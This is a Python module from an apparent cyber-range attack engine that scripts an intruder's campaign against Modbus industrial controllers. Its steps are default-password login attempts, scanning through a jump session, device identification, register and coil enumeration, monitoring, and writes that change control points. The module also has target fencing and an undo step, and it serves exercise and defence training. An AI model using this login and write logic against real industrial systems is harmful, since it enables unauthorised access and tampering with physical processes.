"""What the intruder does, step by step, through whatever way in it has. Knows bytes and replies, no sockets.

Each step needs something (a session, hosts, points), gains something, and answers with evidence: when, to whom, which
bytes went and came, what was learned or changed. `Blocked` means the defenders stopped it; the campaign may then try
another way. `undo` puts back every value that was overwritten.
"""

from __future__ import annotations

import asyncio
import contextlib
import struct
import time
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, field
from typing import Any, Protocol

from cyber_range.engine.attack.fence import Fence

READ_NAMES = {"coil": "read_coil", "discrete": "read_discrete", "holding": "read_holding", "input": "read_input"}
LARGEST_READ = {"coil": 400, "discrete": 400, "holding": 100, "input": 100}


class Blocked(Exception):
    """The step met a closed door; its words are evidence."""


class Channel(Protocol):
    """A byte stream to a target."""

    async def send(self, data: bytes) -> None: ...
    async def receive(self, count: int, timeout: float) -> bytes:
        """Exactly `count` bytes; TimeoutError or ConnectionError else."""
        ...

    def close(self) -> None: ...


class Way(Protocol):
    """A session that leads inside."""

    @property
    def alive(self) -> bool: ...
    async def open(self, host: str, port: int, timeout: float) -> Channel:
        """ConnectionRefusedError, TimeoutError, PermissionError (the session may not), ConnectionError (it is gone)."""
        ...

    def close(self) -> None: ...


class Toolbox(Protocol):
    """What the intruder's machine can do."""

    async def log_in(self, host: str, port: int, user: str, password: str) -> Way:
        """PermissionError when refused; TimeoutError, ConnectionError when not reached."""
        ...


@dataclass
class Evidence:
    """What one step did, told when it ends."""

    started: float = field(default_factory=time.time)
    sent: int = 0
    received: int = 0
    facts: dict[str, Any] = field(default_factory=dict)

    def as_dict(self) -> dict[str, Any]:
        return {
            "started": round(self.started, 3), "ended": round(time.time(), 3), "bytes_out": self.sent,
            "bytes_in": self.received, **self.facts,
        }  # fmt: skip


class Dialogue:
    """Modbus over one channel, with the declared frames."""

    def __init__(self, channel: Channel, frames: Mapping[str, bytes], evidence: Evidence) -> None:
        self._channel, self._frames, self._evidence = channel, frames, evidence
        self._transaction = 0

    async def ask(self, name: str, address: int = 0, value: int = 0, *, unit: int = 1) -> bytes:
        """The answer's PDU (an exception answer too). Offsets: 0 transaction, 6 unit, 8 address, 10 value or count."""
        self._transaction += 1
        frame = bytearray(self._frames[name])
        struct.pack_into(">H", frame, 0, self._transaction)
        frame[6] = unit
        if name != "identify":
            struct.pack_into(">HH", frame, 8, address, value)
        await self._channel.send(bytes(frame))
        self._evidence.sent += len(frame)
        head = await self._channel.receive(7, 3.0)
        body = await self._channel.receive(struct.unpack(">H", head[4:6])[0] - 1, 3.0)
        self._evidence.received += len(head) + len(body)
        return body

    async def read(self, table: str, address: int, count: int) -> list[int] | None:
        """Values, or None when the device refuses these addresses."""
        body = await self.ask(READ_NAMES[table], address, count)
        if body[0] & 0x80:
            return None
        data = body[2:]
        if table in ("coil", "discrete"):
            return [data[i // 8] >> i % 8 & 1 for i in range(count)]
        return list(struct.unpack(f">{len(data) // 2}H", data))

    async def write(self, table: str, address: int, value: int) -> bool:
        raw = (0xFF00 if value else 0) if table == "coil" else value
        body = await self.ask(f"write_{table}", address, raw)
        return not body[0] & 0x80


class Intruder:
    """State of one campaign: the way in, what was found, what was changed."""

    def __init__(
        self, toolbox: Toolbox, fence: Fence, frames: Callable[[], Awaitable[Mapping[str, bytes]]],
        tell: Callable[[str, dict[str, Any]], None],
    ) -> None:  # fmt: skip
        self._toolbox, self._fence, self._frames_of, self._tell = toolbox, fence, frames, tell
        self._frames: Mapping[str, bytes] = {}
        self._way: Way | None = None
        self._credential: tuple[str, int, str, str] | None = None
        self._monitor: asyncio.Task[None] | None = None
        self.found: dict[str, list[int]] = {}
        self.overwritten: dict[tuple[str, int, str, int], int] = {}
        self.steps: dict[str, Callable[[Mapping[str, Any], Evidence], Awaitable[None]]] = {
            "login": self.login, "scan": self.scan, "identify": self.identify, "enumerate": self.enumerate_points,
            "monitor": self.monitor, "write": self.write, "hold": self.hold, "undo": self.undo,
        }  # fmt: skip

    async def perform(self, step: str, args: Mapping[str, Any]) -> dict[str, Any]:
        """Runs one step: {"result": done | blocked, evidence…}. Faults of the range itself are raised."""
        action = self.steps.get(step)
        if action is None:
            raise LookupError(f"the intruder knows no step {step!r}; it knows: {', '.join(self.steps)}")
        if not self._frames:
            self._frames = await self._frames_of()
        evidence = Evidence()
        try:
            await action(args, evidence)
        except Blocked as exc:
            return {"result": "blocked", "reason": str(exc), **evidence.as_dict()}
        return {"result": "done", **evidence.as_dict()}

    def close(self) -> None:
        if self._monitor is not None:
            self._monitor.cancel()
        if self._way is not None:
            self._way.close()

    # ------------------------------------------------------------ the way in

    async def login(self, args: Mapping[str, Any], evidence: Evidence) -> None:
        """T0859/T0812: accounts left at their default password, tried one after another. Gains a session."""
        host, port = self._fence.check(str(args["host"])), int(args.get("port", 22))
        tried: list[str] = []
        for credential in args["credentials"]:
            user, password = str(credential["user"]), str(credential["password"])
            tried.append(user)
            try:
                way = await self._toolbox.log_in(host, port, user, password)
            except PermissionError:
                continue
            except (TimeoutError, OSError) as exc:
                evidence.facts |= {"target": host, "port": port, "tried": tried}
                raise Blocked(f"{host}:{port} cannot be reached ({type(exc).__name__})") from exc
            self._way, self._credential = way, (host, port, user, password)
            evidence.facts |= {"target": host, "port": port, "user": user, "tried": tried}
            return
        evidence.facts |= {"target": host, "port": port, "tried": tried}
        raise Blocked(f"{host} refused every known password")

    async def way(self) -> Way:
        """The session, opened again when somebody closed it; Blocked when that fails too."""
        if self._way is not None and self._way.alive:
            return self._way
        if self._credential is None:
            raise Blocked("there is no session inside")
        try:
            self._way = await self._toolbox.log_in(*self._credential)
        except PermissionError as exc:
            raise Blocked("the session was closed and the password no longer works") from exc
        except (TimeoutError, OSError) as exc:
            raise Blocked("the session was closed and the jump host cannot be reached") from exc
        return self._way

    async def channel(self, host: str, port: int, timeout: float = 4.0) -> Channel:
        """A stream to an inside service through the session."""
        self._fence.check(host)
        try:
            return await (await self.way()).open(host, port, timeout)
        except PermissionError as exc:
            raise Blocked(f"the account may not reach {host}:{port}") from exc
        except TimeoutError as exc:
            raise Blocked(f"{host}:{port} is silent (filtered)") from exc
        except ConnectionRefusedError as exc:
            raise Blocked(f"{host}:{port} is closed") from exc
        except OSError as exc:
            raise Blocked(f"{host}:{port} cannot be reached") from exc

    @contextlib.asynccontextmanager
    async def modbus(self, host: str, evidence: Evidence) -> Any:
        channel = await self.channel(host, 502)
        try:
            yield Dialogue(channel, self._frames, evidence)
        except (TimeoutError, OSError, EOFError) as exc:
            raise Blocked(f"{host}:502 broke off ({type(exc).__name__})") from exc
        finally:
            channel.close()

    # ------------------------------------------------------------ inside

    async def scan(self, args: Mapping[str, Any], evidence: Evidence) -> None:
        """T0846: connects to every host (or network's hosts) and port through the session. Gains who answers."""
        await self.way()
        hosts, ports = self._fence.hosts(args["hosts"]), [int(p) for p in args.get("ports", [502])]
        answers: dict[str, list[int]] = {}
        attempts = refused = 0

        async def one(host: str, port: int) -> None:
            nonlocal attempts, refused
            attempts += 1
            try:
                channel = await (await self.way()).open(host, port, 2.0)
            except PermissionError:
                refused += 1
                return
            except (TimeoutError, OSError):
                return
            channel.close()
            answers.setdefault(host, []).append(port)

        for port in ports:
            for start in range(0, len(hosts), 8):
                await asyncio.gather(*(one(host, port) for host in hosts[start : start + 8]))
        self.found = answers
        evidence.facts |= {"attempts": attempts, "not_allowed": refused, "open": answers}
        if not answers:
            raise Blocked("nothing inside answers")

    async def identify(self, args: Mapping[str, Any], evidence: Evidence) -> None:
        """T0888: device identification (function 43/14) of each target."""
        devices: dict[str, list[str]] = {}
        for host in self._targets(args):
            async with self.modbus(host, evidence) as dialogue:
                body = await dialogue.ask("identify")
                devices[host] = [] if body[0] & 0x80 else identity_of(body)
        evidence.facts["devices"] = devices

    async def enumerate_points(self, args: Mapping[str, Any], evidence: Evidence) -> None:
        """T0861: reads all tables in blocks, keeps what is not zero. Gains the points."""
        last = int(args.get("last", 299))
        points: dict[str, int] = {}
        read = 0
        for host in self._targets(args):
            async with self.modbus(host, evidence) as dialogue:
                for table in args.get("tables", ["holding", "coil", "input"]):
                    for first in range(0, last + 1, LARGEST_READ[table]):
                        count = min(LARGEST_READ[table], last + 1 - first)
                        values = await dialogue.read(table, first, count)
                        read += count
                        for offset, value in enumerate(values or []):
                            if value:
                                points[f"{host}/{table}/{first + offset}"] = value
                        await asyncio.sleep(0.02)
        evidence.facts |= {"addresses_read": read, "points": points}

    def _targets(self, args: Mapping[str, Any]) -> list[str]:
        hosts = [str(h) for h in args.get("hosts") or [h for h, ports in self.found.items() if 502 in ports]]
        if not hosts:
            raise Blocked("no controller was found")
        return [self._fence.check(host) for host in hosts]

    async def monitor(self, args: Mapping[str, Any], evidence: Evidence) -> None:
        """T0801: keeps reading a few points, to see the effect of what follows. Goes on after the step ended."""
        host = self._fence.check(str(args["host"]))
        table, first, count = str(args.get("table", "input")), int(args["address"]), int(args.get("count", 1))
        every, seconds = float(args.get("every", 2.0)), float(args.get("seconds", 300))
        async with self.modbus(host, evidence) as dialogue:
            values = await dialogue.read(table, first, count)
        evidence.facts |= {"target": host, "table": table, "address": first, "values": values}

        async def keep_reading() -> None:
            until = time.monotonic() + seconds
            own = Evidence()
            with contextlib.suppress(Blocked):
                async with self.modbus(host, own) as dialogue:
                    while time.monotonic() < until:
                        await dialogue.read(table, first, count)
                        await asyncio.sleep(every)
            self._tell("monitor_ended", {"target": host, **own.as_dict()})

        if self._monitor is not None:
            self._monitor.cancel()
        self._monitor = asyncio.ensure_future(keep_reading())

    async def write(self, args: Mapping[str, Any], evidence: Evidence) -> None:
        """T0836 (registers), T0855 (coils): overwrites one point, reads it back. Remembers what was there for `undo`."""
        host, table = self._fence.check(str(args["host"])), str(args["table"])
        address, value = int(args["address"]), int(args["value"])
        async with self.modbus(host, evidence) as dialogue:
            before = await dialogue.read(table, address, 1)
            accepted = await dialogue.write(table, address, value)
            after = await dialogue.read(table, address, 1)
        evidence.facts |= {
            "target": host, "table": table, "address": address, "value": value,
            "before": before[0] if before else None, "after": after[0] if after else None,
        }  # fmt: skip
        if not accepted:
            raise Blocked(f"{host} refused the write to {table} {address}")
        if before:
            self.overwritten.setdefault((host, 502, table, address), before[0])

    async def hold(self, args: Mapping[str, Any], evidence: Evidence) -> None:
        """Writes several points at once, in order: [{host, table, address, value}…]. For an intruder who insists."""
        done = []
        for point in args["writes"]:
            inner = Evidence()
            await self.write(point, inner)
            evidence.sent += inner.sent
            evidence.received += inner.received
            done.append({key: inner.facts[key] for key in ("target", "table", "address", "before", "after")})
        evidence.facts["writes"] = done

    async def undo(self, args: Mapping[str, Any], evidence: Evidence) -> None:
        """Puts every overwritten point back and leaves."""
        restored = []
        for (host, _, table, address), value in list(self.overwritten.items()):
            async with self.modbus(host, evidence) as dialogue:
                if await dialogue.write(table, address, value):
                    restored.append({"target": host, "table": table, "address": address, "value": value})
                    del self.overwritten[host, 502, table, address]
        evidence.facts["restored"] = restored
        self.close()


def identity_of(body: bytes) -> list[str]:
    """Texts of a device identification answer."""
    found, at = [], 7
    for _ in range(body[6]):
        length = body[at + 1]
        found.append(body[at + 2 : at + 2 + length].decode(errors="replace"))
        at += 2 + length
    return found
